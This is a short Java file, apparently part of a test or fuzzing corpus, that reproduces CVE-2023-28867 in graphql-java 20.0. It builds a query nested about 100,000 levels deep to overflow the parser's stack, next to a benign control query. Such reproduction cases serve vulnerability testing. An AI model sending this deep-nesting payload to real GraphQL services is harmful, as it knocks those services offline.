package corpus.graphql;

import corpus.CorpusDriver;
import graphql.language.AstPrinter;
import graphql.parser.Parser;

/**
 * graphql-java 20.0, CVE-2023-28867: a query whose selection sets nest without limit makes the
 * ANTLR-generated parser's rules ({@code GraphqlParser#selectionSet → #selection → #field → back})
 * recurse until the stack runs out (20.1 stops at a maximum rule depth).
 */
public final class Hostile {

    public static void main(String[] args) throws Exception {
        int depth = CorpusDriver.depth(args, 100_000);
        String hostile = CorpusDriver.nested("{a ", "b", "}", depth);
        CorpusDriver.run("graphql", Parser.class,
                () -> AstPrinter.printAstCompact(new Parser().parseDocument("query Q { hero(id: [1, {x: 2}]) { name friends { name } } }")),
                () -> new Parser().parseDocument(hostile));
    }
}
